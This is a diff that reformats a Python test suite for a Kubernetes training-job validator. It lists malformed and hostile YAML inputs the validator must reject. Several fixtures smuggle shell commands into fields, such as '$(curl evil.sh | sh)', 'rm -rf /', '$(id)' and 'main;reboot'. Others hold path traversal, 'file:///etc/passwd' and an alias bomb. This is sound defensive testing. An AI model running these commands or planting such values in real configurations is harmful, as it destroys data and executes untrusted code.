@@ -80,203 +80,350 @@ def _model_only(why: str) -> str:
 
 
 METADATA = _model_only("metadata is checked by the API server's ObjectMeta validation, not the CRD")
-MAP_KEYS = _model_only("a schema cannot check a map's keys (CEL on keys of unbounded length "
-                       "is over the API server's cost limit)")
+MAP_KEYS = _model_only(
+    "a schema cannot check a map's keys (CEL on keys of unbounded length is over the API server's cost limit)"
+)
 PRESET = _model_only("depends on the preset's values for the family the trainer detects")
-STRICTER = _model_only("stricter than the API server, where it helps: pod hostnames are "
-                       "<name>-<index>, a DNS label")
+STRICTER = _model_only("stricter than the API server, where it helps: pod hostnames are <name>-<index>, a DNS label")
 LORA = "{method: lora}"
 
 HOSTILE = [
     # --- encodings and YAML tricks that never become an object -----------------------------
     Hostile("utf-32", "\ufeff".encode("utf-32-le") + job().encode("utf-32-le"), "UTF-32", FILE),
-    Hostile("overlong-utf8-slash", job().encode().replace(b"toy cat}", b"toy \xc0\xaf cat}"),
-            "not UTF-8", FILE),
-    Hostile("duplicate-quoted-key", job(training='{"steps": 10, steps: 20}'),
-            "duplicate key 'steps'", FILE),
-    Hostile("duplicate-after-merge-key", job(training="{<<: {steps: 10}, learningRate: 2e-6, "
-                                              "learningRate: 1e-6}"), "duplicate key", FILE),
-    Hostile("alias-bomb-in-prompt", HEAD + "x: &a [" + ", ".join(["zwx"] * 60) + "]\n"
-            + "".join(f"y{i}: &a{i} [{', '.join(['*a' if i == 0 else f'*a{i - 1}'] * 60)}]\n"
-                      for i in range(3)) + "spec: {}\n", "once its aliases are expanded", FILE),
+    Hostile("overlong-utf8-slash", job().encode().replace(b"toy cat}", b"toy \xc0\xaf cat}"), "not UTF-8", FILE),
+    Hostile("duplicate-quoted-key", job(training='{"steps": 10, steps: 20}'), "duplicate key 'steps'", FILE),
+    Hostile(
+        "duplicate-after-merge-key",
+        job(training="{<<: {steps: 10}, learningRate: 2e-6, learningRate: 1e-6}"),
+        "duplicate key",
+        FILE,
+    ),
+    Hostile(
+        "alias-bomb-in-prompt",
+        HEAD
+        + "x: &a ["
+        + ", ".join(["zwx"] * 60)
+        + "]\n"
+        + "".join(f"y{i}: &a{i} [{', '.join(['*a' if i == 0 else f'*a{i - 1}'] * 60)}]\n" for i in range(3))
+        + "spec: {}\n",
+        "once its aliases are expanded",
+        FILE,
+    ),
     Hostile("bell-in-yaml", job().replace("toy cat}", "toy \x07cat}"), "control character", FILE),
-    Hostile("second-document-empty-kind", job() + "---\napiVersion: v1\nmetadata: {name: x}\n",
-            "no kind", FILE),
+    Hostile("second-document-empty-kind", job() + "---\napiVersion: v1\nmetadata: {name: x}\n", "no kind", FILE),
     # --- traversal, URIs and what looks like shell --------------------------------------
-    Hostile("instance-traversal", job(instance="{uri: 's3://training-data/cat/../../etc/', "
-                                      "prompt: a photo of zwx cat}"), "spec.instance.uri"),
+    Hostile(
+        "instance-traversal",
+        job(instance="{uri: 's3://training-data/cat/../../etc/', prompt: a photo of zwx cat}"),
+        "spec.instance.uri",
+    ),
     Hostile("output-dot-segment", job(output="{uri: pvc://data/./runs/}"), "spec.output.uri"),
-    Hostile("hub-revision-traversal", job(baseModel="{uri: 'hf://org/sd15@../../main'}"),
-            "spec.baseModel.uri"),
+    Hostile("hub-revision-traversal", job(baseModel="{uri: 'hf://org/sd15@../../main'}"), "spec.baseModel.uri"),
     Hostile("output-fragment", job(output="{uri: 's3://outputs/run#frag'}"), "spec.output.uri"),
-    Hostile("uri-userinfo", job(instance=f"{{uri: 's3://{AWS_KEY_ID}:{AWS_SECRET}@training-data/"
-                                f"cat/', prompt: a photo of zwx cat}}"), "spec.instance.uri",
-            secret=AWS_SECRET),
-    Hostile("uri-userinfo-one-slash", job(instance=f"{{uri: 's3:/{AWS_KEY_ID}:{AWS_SECRET}@bucket/x',"
-                                          " prompt: a photo of zwx cat}"), "spec.instance.uri",
-            secret=AWS_SECRET),
+    Hostile(
+        "uri-userinfo",
+        job(instance=f"{{uri: 's3://{AWS_KEY_ID}:{AWS_SECRET}@training-data/cat/', prompt: a photo of zwx cat}}"),
+        "spec.instance.uri",
+        secret=AWS_SECRET,
+    ),
+    Hostile(
+        "uri-userinfo-one-slash",
+        job(instance=f"{{uri: 's3:/{AWS_KEY_ID}:{AWS_SECRET}@bucket/x', prompt: a photo of zwx cat}}"),
+        "spec.instance.uri",
+        secret=AWS_SECRET,
+    ),
     Hostile("file-uri-in-cluster", job(baseModel="{uri: 'file:///etc/passwd'}"), "spec.baseModel.uri"),
     Hostile("hub-backslash", job(baseModel="{uri: 'hf://org\\name'}"), "spec.baseModel.uri"),
-    Hostile("image-command-substitution", job(resources="{image: '$(curl evil.sh | sh)'}"),
-            "spec.resources.image"),
-    Hostile("image-command-list", job(resources="{image: 'trainer:latest; rm -rf /'}"),
-            "spec.resources.image"),
-    Hostile("image-python-c", job(resources="{image: \"python -c 'import os'\"}"),
-            "spec.resources.image"),
-    Hostile("image-uppercase-path", job(resources="{image: ghcr.io/Org/Trainer:1}"),
-            "spec.resources.image"),
+    Hostile("image-command-substitution", job(resources="{image: '$(curl evil.sh | sh)'}"), "spec.resources.image"),
+    Hostile("image-command-list", job(resources="{image: 'trainer:latest; rm -rf /'}"), "spec.resources.image"),
+    Hostile("image-python-c", job(resources="{image: \"python -c 'import os'\"}"), "spec.resources.image"),
+    Hostile("image-uppercase-path", job(resources="{image: ghcr.io/Org/Trainer:1}"), "spec.resources.image"),
     Hostile("image-empty-tag", job(resources="{image: 'ghcr.io/org/trainer:'}"), "spec.resources.image"),
-    Hostile("image-tag-too-long", job(resources=f"{{image: 'trainer:{'t' * 129}'}}"),
-            "spec.resources.image"),
-    Hostile("revision-shell", job(baseModel="{uri: hf://org/sd15, revision: 'main;reboot'}"),
-            "spec.baseModel.revision"),
-    Hostile("endpoint-path-shell", job(storage="{endpoint: 'minio:9000/$(id)'}"),
-            "spec.storage.endpoint"),
-    Hostile("prompt-ansi-escape", job(instance='{uri: s3://training-data/cat/, prompt: '
-                                      '"\\e[2J a photo of zwx cat"}'), "spec.instance.prompt"),
-    Hostile("prompt-newline", job(instance='{uri: s3://training-data/cat/, prompt: "a photo\\nof zwx"}'),
-            "spec.instance.prompt"),
-    Hostile("prompt-blank", job(instance="{uri: s3://training-data/cat/, prompt: '   '}"),
-            "spec.instance.prompt"),
-    Hostile("prompt-unicode-blank", job(instance='{uri: s3://training-data/cat/, prompt: '
-                                        '"\\u00a0\\u3000"}'), "spec.instance.prompt"),
-    Hostile("negative-prompt-tab", job(validation='{negativePrompt: "blurry\\tugly"}'),
-            "spec.validation.negativePrompt"),
-    Hostile("validation-prompt-del", job(validation='{prompts: ["zwx\\x7f cat"]}'),
-            "spec.validation.prompts[0]"),
+    Hostile("image-tag-too-long", job(resources=f"{{image: 'trainer:{'t' * 129}'}}"), "spec.resources.image"),
+    Hostile(
+        "revision-shell", job(baseModel="{uri: hf://org/sd15, revision: 'main;reboot'}"), "spec.baseModel.revision"
+    ),
+    Hostile("endpoint-path-shell", job(storage="{endpoint: 'minio:9000/$(id)'}"), "spec.storage.endpoint"),
+    Hostile(
+        "prompt-ansi-escape",
+        job(instance='{uri: s3://training-data/cat/, prompt: "\\e[2J a photo of zwx cat"}'),
+        "spec.instance.prompt",
+    ),
+    Hostile(
+        "prompt-newline",
+        job(instance='{uri: s3://training-data/cat/, prompt: "a photo\\nof zwx"}'),
+        "spec.instance.prompt",
+    ),
+    Hostile("prompt-blank", job(instance="{uri: s3://training-data/cat/, prompt: '   '}"), "spec.instance.prompt"),
+    Hostile(
+        "prompt-unicode-blank",
+        job(instance='{uri: s3://training-data/cat/, prompt: "\\u00a0\\u3000"}'),
+        "spec.instance.prompt",
+    ),
+    Hostile(
+        "negative-prompt-tab", job(validation='{negativePrompt: "blurry\\tugly"}'), "spec.validation.negativePrompt"
+    ),
+    Hostile("validation-prompt-del", job(validation='{prompts: ["zwx\\x7f cat"]}'), "spec.validation.prompts[0]"),
     # --- Kubernetes object rules ---------------------------------------------------------
-    Hostile("node-selector-key-space", job(resources="{nodeSelector: {'gpu type': a100}}"),
-            "spec.resources.nodeSelector.gpu type", MAP_KEYS),
-    Hostile("node-selector-key-prefix-case", job(resources="{nodeSelector: {'Nvidia.com/gpu': a100}}"),
-            "spec.resources.nodeSelector.Nvidia.com/gpu", MAP_KEYS),
-    Hostile("node-selector-key-too-long", job(resources=f"{{nodeSelector: {{{'k' * 64}: a}}}}"),
-            "spec.resources.nodeSelector.kkkkkkkk", MAP_KEYS),
-    Hostile("node-selector-value-slash", job(resources="{nodeSelector: {gpu: nvidia/a100}}"),
-            "spec.resources.nodeSelector.gpu"),
-    Hostile("node-selector-value-dash-end", job(resources="{nodeSelector: {gpu: a100-}}"),
-            "spec.resources.nodeSelector.gpu"),
-    Hostile("node-selector-value-yaml-bool", job(resources="{nodeSelector: {gpu: true}}"),
-            "spec.resources.nodeSelector.gpu"),
-    Hostile("toleration-exists-with-value",
-            job(resources="{tolerations: [{key: gpu, operator: Exists, value: a100}]}"),
-            "spec.resources.tolerations[0].value"),
-    Hostile("toleration-seconds-no-schedule",
-            job(resources="{tolerations: [{key: gpu, effect: NoSchedule, tolerationSeconds: 60}]}"),
-            "spec.resources.tolerations[0].tolerationSeconds"),
-    Hostile("toleration-seconds-no-effect",
-            job(resources="{tolerations: [{key: gpu, operator: Exists, tolerationSeconds: 60}]}"),
-            "spec.resources.tolerations[0].tolerationSeconds"),
-    Hostile("toleration-no-key-equal", job(resources="{tolerations: [{value: x}]}"),
-            "spec.resources.tolerations[0].operator"),
-    Hostile("toleration-key-bang", job(resources="{tolerations: [{key: 'bad key!', operator: Exists}]}"),
-            "spec.resources.tolerations[0].key"),
-    Hostile("toleration-value-too-long", job(resources=f"{{tolerations: [{{key: gpu, value: {'v' * 64}}}]}}"),
-            "spec.resources.tolerations[0].value"),
-    Hostile("toleration-effect-case", job(resources="{tolerations: [{key: gpu, effect: noschedule}]}"),
-            "spec.resources.tolerations[0].effect"),
-    Hostile("secret-name-case", job(storage="{credentialsSecret: {name: MinioCreds}}"),
-            "spec.storage.credentialsSecret.name"),
-    Hostile("secret-key-dotdot", job(storage="{credentialsSecret: {name: minio, secretKeyKey: '..'}}"),
-            "spec.storage.credentialsSecret.secretKeyKey"),
-    Hostile("secret-key-slash", job(storage="{credentialsSecret: {name: minio, accessKeyKey: aws/key}}"),
-            "spec.storage.credentialsSecret.accessKeyKey"),
-    Hostile("secret-key-space", job(storage="{credentialsSecret: {name: minio, secretKeyKey: 'secret key'}}"),
-            "spec.storage.credentialsSecret.secretKeyKey"),
+    Hostile(
+        "node-selector-key-space",
+        job(resources="{nodeSelector: {'gpu type': a100}}"),
+        "spec.resources.nodeSelector.gpu type",
+        MAP_KEYS,
+    ),
+    Hostile(
+        "node-selector-key-prefix-case",
+        job(resources="{nodeSelector: {'Nvidia.com/gpu': a100}}"),
+        "spec.resources.nodeSelector.Nvidia.com/gpu",
+        MAP_KEYS,
+    ),
+    Hostile(
+        "node-selector-key-too-long",
+        job(resources=f"{{nodeSelector: {{{'k' * 64}: a}}}}"),
+        "spec.resources.nodeSelector.kkkkkkkk",
+        MAP_KEYS,
+    ),
+    Hostile(
+        "node-selector-value-slash",
+        job(resources="{nodeSelector: {gpu: nvidia/a100}}"),
+        "spec.resources.nodeSelector.gpu",
+    ),
+    Hostile(
+        "node-selector-value-dash-end", job(resources="{nodeSelector: {gpu: a100-}}"), "spec.resources.nodeSelector.gpu"
+    ),
+    Hostile(
+        "node-selector-value-yaml-bool", job(resources="{nodeSelector: {gpu: true}}"), "spec.resources.nodeSelector.gpu"
+    ),
+    Hostile(
+        "toleration-exists-with-value",
+        job(resources="{tolerations: [{key: gpu, operator: Exists, value: a100}]}"),
+        "spec.resources.tolerations[0].value",
+    ),
+    Hostile(
+        "toleration-seconds-no-schedule",
+        job(resources="{tolerations: [{key: gpu, effect: NoSchedule, tolerationSeconds: 60}]}"),
+        "spec.resources.tolerations[0].tolerationSeconds",
+    ),
+    Hostile(
+        "toleration-seconds-no-effect",
+        job(resources="{tolerations: [{key: gpu, operator: Exists, tolerationSeconds: 60}]}"),
+        "spec.resources.tolerations[0].tolerationSeconds",
+    ),
+    Hostile(
+        "toleration-no-key-equal",
+        job(resources="{tolerations: [{value: x}]}"),
+        "spec.resources.tolerations[0].operator",
+    ),
+    Hostile(
+        "toleration-key-bang",
+        job(resources="{tolerations: [{key: 'bad key!', operator: Exists}]}"),
+        "spec.resources.tolerations[0].key",
+    ),
+    Hostile(
+        "toleration-value-too-long",
+        job(resources=f"{{tolerations: [{{key: gpu, value: {'v' * 64}}}]}}"),
+        "spec.resources.tolerations[0].value",
+    ),
+    Hostile(
+        "toleration-effect-case",
+        job(resources="{tolerations: [{key: gpu, effect: noschedule}]}"),
+        "spec.resources.tolerations[0].effect",
+    ),
+    Hostile(
+        "secret-name-case",
+        job(storage="{credentialsSecret: {name: MinioCreds}}"),
+        "spec.storage.credentialsSecret.name",
+    ),
+    Hostile(
+        "secret-key-dotdot",
+        job(storage="{credentialsSecret: {name: minio, secretKeyKey: '..'}}"),
+        "spec.storage.credentialsSecret.secretKeyKey",
+    ),
+    Hostile(
+        "secret-key-slash",
+        job(storage="{credentialsSecret: {name: minio, accessKeyKey: aws/key}}"),
+        "spec.storage.credentialsSecret.accessKeyKey",
+    ),
+    Hostile(
+        "secret-key-space",
+        job(storage="{credentialsSecret: {name: minio, secretKeyKey: 'secret key'}}"),
+        "spec.storage.credentialsSecret.secretKeyKey",
+    ),
     Hostile("endpoint-port-zero", job(storage="{endpoint: 'minio:0'}"), "spec.storage.endpoint"),
     Hostile("endpoint-port-too-big", job(storage="{endpoint: 'minio:65536'}"), "spec.storage.endpoint"),
     Hostile("endpoint-scheme", job(storage="{endpoint: 'https://minio'}"), "spec.storage.endpoint"),
-    Hostile("namespace-underscore", job(metadata="namespace: Team_A").replace("  namespace: team-a\n", ""),
-            "metadata.namespace", METADATA),
-    Hostile("namespace-too-long", job(metadata=f"namespace: {'n' * 64}").replace("  namespace: team-a\n", ""),
-            "metadata.namespace", METADATA),
-    Hostile("label-key-space", job(metadata="labels: {'my label': x}"), "metadata.labels.my label",
-            METADATA),
-    Hostile("label-value-too-long", job(metadata=f"labels: {{team: {'v' * 64}}}"), "metadata.labels.team",
-            METADATA),
-    Hostile("kueue-queue-with-space", job(metadata="labels: {kueue.x-k8s.io/queue-name: 'team a'}"),
-            "metadata.labels.kueue.x-k8s.io/queue-name", METADATA),
+    Hostile(
+        "namespace-underscore",
+        job(metadata="namespace: Team_A").replace("  namespace: team-a\n", ""),
+        "metadata.namespace",
+        METADATA,
+    ),
+    Hostile(
+        "namespace-too-long",
+        job(metadata=f"namespace: {'n' * 64}").replace("  namespace: team-a\n", ""),
+        "metadata.namespace",
+        METADATA,
+    ),
+    Hostile("label-key-space", job(metadata="labels: {'my label': x}"), "metadata.labels.my label", METADATA),
+    Hostile("label-value-too-long", job(metadata=f"labels: {{team: {'v' * 64}}}"), "metadata.labels.team", METADATA),
+    Hostile(
+        "kueue-queue-with-space",
+        job(metadata="labels: {kueue.x-k8s.io/queue-name: 'team a'}"),
+        "metadata.labels.kueue.x-k8s.io/queue-name",
+        METADATA,
+    ),
     Hostile("name-with-dot", job().replace("name: toy-cat", "name: toy.cat"), "metadata.name", STRICTER),
-    Hostile("priority-class-spaces", job(resources="{priorityClassName: system node critical}"),
-            "spec.resources.priorityClassName"),
-    Hostile("gpu-resource-uppercase", job(resources="{gpu: {resourceName: NVIDIA.com/gpu}}"),
-            "spec.resources.gpu.resourceName"),
+    Hostile(
+        "priority-class-spaces",
+        job(resources="{priorityClassName: system node critical}"),
+        "spec.resources.priorityClassName",
+    ),
+    Hostile(
+        "gpu-resource-uppercase",
+        job(resources="{gpu: {resourceName: NVIDIA.com/gpu}}"),
+        "spec.resources.gpu.resourceName",
+    ),
     Hostile("memory-gigabytes", job(resources="{memory: 64GB}"), "spec.resources.memory"),
     # --- snake_case -----------------------------------------------------------------------
     Hostile("snake-learning-rate", job(training="{learning_rate: 1e-6}"), "spec.training.learning_rate"),
     Hostile("snake-base-model", job().replace("baseModel:", "base_model:"), "spec.base_model"),
     Hostile("snake-gpus-per-node", job(resources="{gpus_per_node: 2}"), "spec.resources.gpus_per_node"),
-    Hostile("snake-credentials-secret", job(storage="{credentials_secret: {name: minio}}"),
-            "spec.storage.credentials_secret"),
-    Hostile("snake-in-merge-key", job(training="{<<: {learning_rate: 1e-6}}"),
-            "spec.training.learning_rate"),
+    Hostile(
+        "snake-credentials-secret",
+        job(storage="{credentials_secret: {name: minio}}"),
+        "spec.storage.credentials_secret",
+    ),
+    Hostile("snake-in-merge-key", job(training="{<<: {learning_rate: 1e-6}}"), "spec.training.learning_rate"),
     # --- YAML that means something else -------------------------------------------------
     Hostile("precision-no-unquoted", job(training="{mixedPrecision: no}"), "spec.training.mixedPrecision"),
-    Hostile("prompt-yes-unquoted", job(instance="{uri: s3://training-data/cat/, prompt: yes}"),
-            "spec.instance.prompt"),
+    Hostile("prompt-yes-unquoted", job(instance="{uri: s3://training-data/cat/, prompt: yes}"), "spec.instance.prompt"),
     Hostile("steps-not-a-number", job(training="{steps: 4e2.5}"), "spec.training.steps"),
     Hostile("method-capitalised", job(training="{method: Lora}"), "spec.training.method"),
     Hostile("steps-underscored-huge", job(training="{steps: 1_000_000_000}"), "spec.training.steps"),
     Hostile("learning-rate-infinite", job(training="{learningRate: .inf}"), "spec.training.learningRate"),
-    Hostile("alias-class-prompt-is-instance-prompt",
-            job(instance="{uri: s3://training-data/cat/, prompt: &p a photo of zwx cat}",
-                prior="{enabled: true, classPrompt: *p}"), "spec.prior.classPrompt"),
+    Hostile(
+        "alias-class-prompt-is-instance-prompt",
+        job(
+            instance="{uri: s3://training-data/cat/, prompt: &p a photo of zwx cat}",
+            prior="{enabled: true, classPrompt: *p}",
+        ),
+        "spec.prior.classPrompt",
+    ),
     # --- meaning ------------------------------------------------------------------------
-    Hostile("lora-no-target-modules", job(training="{method: lora, lora: {targetModules: []}}"),
-            "spec.training.lora.targetModules: List should have at least 1 item after validation, "
-            "not 0: LoRA would train nothing"),
-    Hostile("ti-placeholder-is-initializer",
-            job(instance="{uri: s3://training-data/cat/, prompt: a photo of cat}",
-                training="{textualInversion: {placeholderToken: cat, initializerToken: cat}}"),
-            "spec.training.textualInversion.placeholderToken"),
-    Hostile("ti-placeholder-not-a-word",
-            job(training="{textualInversion: {placeholderToken: zw, initializerToken: cat}}"),
-            "spec.training.textualInversion.placeholderToken"),
+    Hostile(
+        "lora-no-target-modules",
+        job(training="{method: lora, lora: {targetModules: []}}"),
+        "spec.training.lora.targetModules: List should have at least 1 item after validation, "
+        "not 0: LoRA would train nothing",
+    ),
+    Hostile(
+        "ti-placeholder-is-initializer",
+        job(
+            instance="{uri: s3://training-data/cat/, prompt: a photo of cat}",
+            training="{textualInversion: {placeholderToken: cat, initializerToken: cat}}",
+        ),
+        "spec.training.textualInversion.placeholderToken",
+    ),
+    Hostile(
+        "ti-placeholder-not-a-word",
+        job(training="{textualInversion: {placeholderToken: zw, initializerToken: cat}}"),
+        "spec.training.textualInversion.placeholderToken",
+    ),
     Hostile("output-inside-photos", job(output="{uri: s3://training-data/toy-cat/out/}"), "spec.output.uri"),
     Hostile("output-is-photos", job(output="{uri: s3://training-data/toy-cat}"), "spec.output.uri"),
-    Hostile("class-images-inside-photos",
-            job(prior="{enabled: true, classPrompt: a photo of a cat, uri: s3://training-data/toy-cat/cats/}"),
-            "spec.prior.uri"),
+    Hostile(
+        "class-images-inside-photos",
+        job(prior="{enabled: true, classPrompt: a photo of a cat, uri: s3://training-data/toy-cat/cats/}"),
+        "spec.prior.uri",
+    ),
     Hostile("class-prompt-prior-off", job(prior="{classPrompt: a photo of a cat}"), "spec.prior.classPrompt"),
     Hostile("num-images-prior-off", job(prior="{enabled: false, numImages: 50}"), "spec.prior.numImages"),
     Hostile("loss-weight-prior-off", job(prior="{lossWeight: 0.5}"), "spec.prior.lossWeight"),
-    Hostile("validation-prompts-off", job(validation="{enabled: false, prompts: [a zwx cat]}"),
-            "spec.validation.prompts"),
-    Hostile("inference-steps-off", job(validation="{enabled: false, inferenceSteps: 30}"),
-            "spec.validation.inferenceSteps"),
-    Hostile("text-encoder-steps-without-text-encoder", job(training="{textEncoderSteps: 10}"),
-            "spec.training.textEncoderSteps"),
-    Hostile("sdxl-single-file", job(baseModel="{uri: s3://models/sdxl/, family: sdxl}",
-                                    output="{formats: [safetensors]}"), "spec.output.formats"),
-    Hostile("sdxl-textual-inversion", job(baseModel="{uri: s3://models/sdxl/, family: sdxl}",
-                                          training="{method: full, textualInversion: "
-                                          "{placeholderToken: zwx, initializerToken: cat}}"),
-            "spec.training.textualInversion"),
-    Hostile("revision-for-s3", job(baseModel="{uri: s3://models/sd15/, revision: main}"),
-            "spec.baseModel.revision"),
+    Hostile(
+        "validation-prompts-off", job(validation="{enabled: false, prompts: [a zwx cat]}"), "spec.validation.prompts"
+    ),
+    Hostile(
+        "inference-steps-off", job(validation="{enabled: false, inferenceSteps: 30}"), "spec.validation.inferenceSteps"
+    ),
+    Hostile(
+        "text-encoder-steps-without-text-encoder",
+        job(training="{textEncoderSteps: 10}"),
+        "spec.training.textEncoderSteps",
+    ),
+    Hostile(
+        "sdxl-single-file",
+        job(baseModel="{uri: s3://models/sdxl/, family: sdxl}", output="{formats: [safetensors]}"),
+        "spec.output.formats",
+    ),
+    Hostile(
+        "sdxl-textual-inversion",
+        job(
+            baseModel="{uri: s3://models/sdxl/, family: sdxl}",
+            training="{method: full, textualInversion: {placeholderToken: zwx, initializerToken: cat}}",
+        ),
+        "spec.training.textualInversion",
+    ),
+    Hostile("revision-for-s3", job(baseModel="{uri: s3://models/sd15/, revision: main}"), "spec.baseModel.revision"),
     Hostile("lora-format-twice", job(training=LORA, output="{formats: [lora, lora]}"), "spec.output.formats"),
     # --- credentials pasted into the wrong field ----------------------------------------------
-    Hostile("aws-secret-in-prompt", job(instance=f"{{uri: s3://training-data/cat/, prompt: 'zwx cat "
-                                        f"{AWS_SECRET}'}}"), "spec.instance.prompt", secret=AWS_SECRET),
-    Hostile("aws-key-id-in-validation-prompt", job(validation=f"{{prompts: ['zwx {AWS_KEY_ID}']}}"),
-            "spec.validation.prompts[0]", secret=AWS_KEY_ID),
-    Hostile("hf-token-in-negative-prompt", job(validation=f"{{negativePrompt: {HF_TOKEN}}}"),
-            "spec.validation.negativePrompt", secret=HF_TOKEN),
-    Hostile("secret-in-class-prompt", job(prior=f"{{enabled: true, classPrompt: 'a cat {AWS_SECRET}'}}"),
-            "spec.prior.classPrompt", secret=AWS_SECRET),
-    Hostile("secret-in-long-wrong-prompt", job(instance="{uri: s3://training-data/cat/, prompt: '"
-                                               + "x" * 1001 + f" {AWS_SECRET}'}}"),
-            "spec.instance.prompt", secret=AWS_SECRET),
-    Hostile("secret-in-image", job(resources=f"{{image: 'user:{AWS_SECRET}@registry/trainer'}}"),
-            "spec.resources.image", secret=AWS_SECRET),
+    Hostile(
+        "aws-secret-in-prompt",
+        job(instance=f"{{uri: s3://training-data/cat/, prompt: 'zwx cat {AWS_SECRET}'}}"),
+        "spec.instance.prompt",
+        secret=AWS_SECRET,
+    ),
+    Hostile(
+        "aws-key-id-in-validation-prompt",
+        job(validation=f"{{prompts: ['zwx {AWS_KEY_ID}']}}"),
+        "spec.validation.prompts[0]",
+        secret=AWS_KEY_ID,
+    ),
+    Hostile(
+        "hf-token-in-negative-prompt",
+        job(validation=f"{{negativePrompt: {HF_TOKEN}}}"),
+        "spec.validation.negativePrompt",
+        secret=HF_TOKEN,
+    ),
+    Hostile(
+        "secret-in-class-prompt",
+        job(prior=f"{{enabled: true, classPrompt: 'a cat {AWS_SECRET}'}}"),
+        "spec.prior.classPrompt",
+        secret=AWS_SECRET,
+    ),
+    Hostile(
+        "secret-in-long-wrong-prompt",
+        job(instance="{uri: s3://training-data/cat/, prompt: '" + "x" * 1001 + f" {AWS_SECRET}'}}"),
+        "spec.instance.prompt",
+        secret=AWS_SECRET,
+    ),
+    Hostile(
+        "secret-in-image",
+        job(resources=f"{{image: 'user:{AWS_SECRET}@registry/trainer'}}"),
+        "spec.resources.image",
+        secret=AWS_SECRET,
+    ),
     # --- rules the CRD cannot state -------------------------------------------------------
-    Hostile("face-batch-over-gpus", job(preset="face", resources="{gpusPerNode: 4}"),
-            "spec.training.batchSize", PRESET),
-    Hostile("object-checkpoint-over-steps", job(preset="object", checkpointing="{everySteps: 500}"),
-            "spec.checkpointing.everySteps", PRESET),
-    Hostile("hugepages-without-memory", job(resources="{extraResources: {hugepages-2Mi: 1Gi}}"),
-            "spec.resources.extraResources", MAP_KEYS),
-    Hostile("device-fraction", job(resources="{extraResources: {rdma/hca: 500m}}"),
-            "spec.resources.extraResources.rdma/hca", MAP_KEYS),
+    Hostile(
+        "face-batch-over-gpus", job(preset="face", resources="{gpusPerNode: 4}"), "spec.training.batchSize", PRESET
+    ),
+    Hostile(
+        "object-checkpoint-over-steps",
+        job(preset="object", checkpointing="{everySteps: 500}"),
+        "spec.checkpointing.everySteps",
+        PRESET,
+    ),
+    Hostile(
+        "hugepages-without-memory",
+        job(resources="{extraResources: {hugepages-2Mi: 1Gi}}"),
+        "spec.resources.extraResources",
+        MAP_KEYS,
+    ),
+    Hostile(
+        "device-fraction",
+        job(resources="{extraResources: {rdma/hca: 500m}}"),
+        "spec.resources.extraResources.rdma/hca",
+        MAP_KEYS,
+    ),
 ]
 
 DIGEST = "sha256:" + "0123456789abcdef" * 4
@@ -284,33 +431,45 @@ VALID = {
     "yaml-1.2-numbers": job(training="{learningRate: 2e-6, steps: 0x190}"),
     "bom-and-crlf": "\ufeff" + job().replace("\n", "\r\n"),
     "prompt-cjk-emoji": job(instance="{uri: s3://training-data/cat/, prompt: 'a photo of zwx 猫 🐱'}"),
-    "prompt-shell-characters": job(instance="{uri: s3://training-data/cat/, prompt: "
-                                   "'a photo of zwx cat; rm -rf / $(x) `id`'}"),
-    "prompt-long-word": job(instance="{uri: s3://training-data/cat/, prompt: "
-                            "a pneumonoultramicroscopicsilicovolcanoconiosis zwx cat}"),
+    "prompt-shell-characters": job(
+        instance="{uri: s3://training-data/cat/, prompt: 'a photo of zwx cat; rm -rf / $(x) `id`'}"
+    ),
+    "prompt-long-word": job(
+        instance="{uri: s3://training-data/cat/, prompt: a pneumonoultramicroscopicsilicovolcanoconiosis zwx cat}"
+    ),
     "image-registry-port-digest": job(resources=f"{{image: 'registry.local:5000/team/trainer@{DIGEST}'}}"),
     "image-ipv6-registry": job(resources="{image: '[fd00::1]:5000/trainer:1.0'}"),
     "image-tag-and-digest": job(resources=f"{{image: 'ghcr.io/org/dream_booth-trainer:v1.2_rc.1@{DIGEST}'}}"),
-    "node-selector-real-keys": job(resources="{nodeSelector: {nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB, "
-                                   "node.kubernetes.io/instance-type: p4d.24xlarge}}"),
+    "node-selector-real-keys": job(
+        resources="{nodeSelector: {nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB, "
+        "node.kubernetes.io/instance-type: p4d.24xlarge}}"
+    ),
     "node-selector-empty-value": job(resources="{nodeSelector: {dedicated: ''}}"),
     "toleration-everything": job(resources="{tolerations: [{operator: Exists}]}"),
-    "toleration-no-execute-seconds": job(resources="{tolerations: [{key: node.kubernetes.io/unreachable, "
-                                         "operator: Exists, effect: NoExecute, tolerationSeconds: 300}]}"),
-    "anchor-reused-prompt": job(instance="{uri: s3://training-data/cat/, prompt: &p a photo of zwx cat}",
-                                validation="{prompts: [*p, a zwx cat on the moon]}"),
-    "secret-keys-with-dots": job(storage="{credentialsSecret: {name: minio.creds, accessKeyKey: access.key, "
-                                 "secretKeyKey: .secret-key}}"),
+    "toleration-no-execute-seconds": job(
+        resources="{tolerations: [{key: node.kubernetes.io/unreachable, "
+        "operator: Exists, effect: NoExecute, tolerationSeconds: 300}]}"
+    ),
+    "anchor-reused-prompt": job(
+        instance="{uri: s3://training-data/cat/, prompt: &p a photo of zwx cat}",
+        validation="{prompts: [*p, a zwx cat on the moon]}",
+    ),
+    "secret-keys-with-dots": job(
+        storage="{credentialsSecret: {name: minio.creds, accessKeyKey: access.key, secretKeyKey: .secret-key}}"
+    ),
     "endpoint-ip-top-port": job(storage="{endpoint: '10.0.0.12:65535', secure: false}"),
     "precision-no-quoted": job(training="{mixedPrecision: 'no'}"),
     "output-sibling-prefix": job(output="{uri: s3://training-data/toy-cat-out/}"),
     "hub-commit": job(baseModel="{uri: 'hf://org/sd15@" + "a" * 40 + "'}"),
-    "kueue-labels-annotations": job(metadata="labels: {kueue.x-k8s.io/queue-name: team-a, app: ''}\n"
-                                    "annotations: {note: 'anything: even spaces and $(x)'}"),
+    "kueue-labels-annotations": job(
+        metadata="labels: {kueue.x-k8s.io/queue-name: team-a, app: ''}\n"
+        "annotations: {note: 'anything: even spaces and $(x)'}"
+    ),
     "validation-off-keeps-export-scheduler": job(validation="{enabled: false, scheduler: dpm}"),
-    "ti-with-its-own-token": job(instance="{uri: s3://training-data/cat/, prompt: a photo of <zwx> cat}",
-                                 training="{textualInversion: {placeholderToken: <zwx>, "
-                                 "initializerToken: cat}}"),
+    "ti-with-its-own-token": job(
+        instance="{uri: s3://training-data/cat/, prompt: a photo of <zwx> cat}",
+        training="{textualInversion: {placeholderToken: <zwx>, initializerToken: cat}}",
+    ),
     "prior-face-own-class-images": job(preset="face", prior="{uri: s3://training-data/people/}"),
 }
 
@@ -354,8 +513,9 @@ def crd_problems(text: str | bytes) -> list[str] | None:
         return None
     spec = jobs[0].data["spec"]
     problems = unknown_fields(spec, SPEC_SCHEMA)
